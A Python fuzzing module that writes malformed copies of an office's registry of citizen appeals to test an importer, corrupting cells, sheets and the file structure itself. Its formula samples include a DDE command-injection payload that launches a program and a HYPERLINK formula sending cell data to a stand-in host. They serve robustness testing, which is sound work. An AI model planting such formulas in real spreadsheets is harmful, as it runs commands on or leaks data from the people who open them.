"""Malformed journals: an export of a real office, changed the ways files go wrong in an office (seeded).

``mutate(source, target, rng)`` writes one malformed journal and returns the names of what was done to it:
cell types and dates, formulas, merged and hidden cells, huge cells, headers, extra sheets, and damage to
the file itself (cut, bytes flipped, parts missing, malformed XML, other files renamed to .xlsx).
"""

from __future__ import annotations

import random
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path

TEXT_COLUMNS = ("Фамилия", "Имя", "Отчество", "Адрес", "Содержание", "Исполнитель", "Населённый пункт", "Телефон",
                "Эл. почта", "Резолюция", "Исх. номер ответа", "Сопроводительное письмо")
DATE_COLUMNS = ("Дата регистрации", "Дата поступления", "Дата ответа", "Срок по закону", "Контрольный срок",
                "Продлено до")
OTHER_COLUMNS = ("Число подписей", "Коллективное", "На контроле", "Форма поступления", "Вид обращения", "Вопросы",
                 "Результаты")
FORMULAS = ("=1+1", '=HYPERLINK("http://example.invalid/?x="&A1;"Нажмите")', "=cmd|' /C calc'!A0", "=A2",
            "=SUM(A1:A9)", "=#REF!", '=IF(1;"да";"нет")')


def _cell_mutations(ws, headers: list[str], rng: random.Random) -> list[str]:
    """Changes to the cells of the sheet (the workbook stays a valid file)."""
    rows = ws.max_row
    col = {h: i + 1 for i, h in enumerate(headers) if h}

    def cell(name: str):
        return ws.cell(rng.randint(2, max(2, rows)), col[name]) if name in col else ws.cell(2, 1)

    kind = rng.choice(("types", "dates", "formula", "merged", "hidden_rows", "hidden_sheet", "huge", "headers",
                       "extra_sheets", "epoch_1904", "empty_rows", "chart_first", "controls"))
    if kind == "types":
        for _ in range(rng.randint(1, 5)):
            target = cell(rng.choice(DATE_COLUMNS + OTHER_COLUMNS + TEXT_COLUMNS))
            target.value = rng.choice((3.14159, -7, True, "сорок два", datetime(2026, 3, 1, 13, 45), 0, "", " ",
                                       "1;2;;3", "да/нет", 10**20, -0.0, "+79001234567", "@", "#N/A"))
    elif kind == "dates":
        for _ in range(rng.randint(1, 4)):
            target = cell(rng.choice(DATE_COLUMNS))
            target.value = rng.choice(("01.01.1900", "15.06.1985", "31.12.1989", "29.02.2025", "31.04.2026",
                                       date.today() + timedelta(days=rng.randint(1, 400)), "01.01.2199", 1, 60,
                                       45000, 2958466, -1, "2026-13-01", "вчера", "1.1.26", "2026/11/05",
                                       date(1899, 12, 31)))
    elif kind == "formula":
        for _ in range(rng.randint(1, 6)):
            cell(rng.choice(TEXT_COLUMNS + DATE_COLUMNS + OTHER_COLUMNS)).value = rng.choice(FORMULAS)
    elif kind == "merged":
        c = rng.choice(list(col.values()))
        top = rng.randint(2, max(2, rows - 1))
        ws.merge_cells(start_row=top, end_row=min(rows, top + rng.randint(1, 3)), start_column=c,
                       end_column=c + rng.randint(0, 2))
    elif kind == "hidden_rows":
        for _ in range(rng.randint(1, 8)):
            ws.row_dimensions[rng.randint(2, max(2, rows))].hidden = True
    elif kind == "hidden_sheet":
        ws.sheet_state = "hidden"
        ws.parent.create_sheet(rng.choice(("Лист1", "Свод", "Пусто")))
    elif kind == "huge":
        target = cell(rng.choice((*TEXT_COLUMNS, "Число подписей")))
        target.value = rng.choice(("Я" * 32_767, "9" * 500, 10**30, 1e308, "x" * 5000, "\n" * 1000))
    elif kind == "headers":
        c = rng.choice(list(col.values()))
        ws.cell(1, c).value = rng.choice((None, "Фамилия", "Дата  РЕГИСТРАЦИИ", "Соде ржание", "???", 42))
    elif kind == "extra_sheets":
        for name in rng.sample(["Итоги", "Справочник", "Журнал (2)", "Диаграмма"], rng.randint(1, 3)):
            other = ws.parent.create_sheet(name, rng.randint(0, len(ws.parent.sheetnames)))
            other.append(["Итого", 5])
    elif kind == "epoch_1904":
        from openpyxl.utils.datetime import CALENDAR_MAC_1904

        ws.parent.epoch = CALENDAR_MAC_1904
        cell("Дата регистрации").value = rng.randint(40000, 45000)
    elif kind == "empty_rows":
        ws.insert_rows(rng.randint(2, max(2, rows)), rng.randint(1, 20))
    elif kind == "chart_first":
        from openpyxl.chart import BarChart, Reference

        chart = BarChart()
        chart.add_data(Reference(ws, min_col=1, min_row=1, max_row=min(rows, 5)))
        ws.parent.create_chartsheet("Диаграмма", 0).add_chart(chart)
    elif kind == "controls":
        cell(rng.choice(TEXT_COLUMNS)).value = rng.choice(("\tтаб", "строка\r\nвторая", "  ", "‮перевёрнуто"))
    return [kind]


def _file_mutation(path: Path, rng: random.Random) -> str:
    """Damage to the file itself."""
    data = path.read_bytes()
    kind = rng.choice(("cut", "flip", "drop_part", "bad_xml", "renamed", "empty", "not_zip_inside"))
    if kind == "cut":
        path.write_bytes(data[: rng.randint(0, len(data) - 1)])
    elif kind == "flip":
        raw = bytearray(data)
        for _ in range(rng.randint(1, 50)):
            raw[rng.randrange(len(raw))] = rng.randrange(256)
        path.write_bytes(bytes(raw))
    elif kind in ("drop_part", "bad_xml"):
        tmp = path.with_suffix(".tmp")
        with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
            names = zin.namelist()
            victim = rng.choice(names)
            for item in zin.infolist():
                body = zin.read(item.filename)
                if item.filename == victim:
                    if kind == "drop_part":
                        continue
                    body = rng.choice((body[: len(body) // 2], b"<<not xml>>", b"\xff\xfe\x00",
                                       body.replace(b"<", b"<x:", 3), b""))
                zout.writestr(item, body)
        tmp.replace(path)
        kind += f":{victim}"
    elif kind == "renamed":
        path.write_bytes(rng.choice((b"%PDF-1.4\n1 0 obj<<>>endobj\n", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
                                     "Фамилия;Дата регистрации\nПетров;01.11.2026\n".encode("cp1251"),
                                     b"\x89PNG\r\n\x1a\n" + b"\0" * 100, b"<html><body>journal</body></html>")))
    elif kind == "empty":
        path.write_bytes(b"")
    else:  # a zip without a workbook in it
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("readme.txt", "это не книга Excel")
    return kind


def mutate(source: Path, target: Path, rng: random.Random) -> list[str]:
    from openpyxl import load_workbook

    wb = load_workbook(source)
    ws = wb.worksheets[0]
    headers = [c.value for c in ws[1]]
    done = []
    for _ in range(rng.choice((1, 1, 2, 3))):
        done += _cell_mutations(ws, headers, rng)
    wb.save(target)
    if rng.random() < 0.3:
        done.append(_file_mutation(target, rng))
    return done
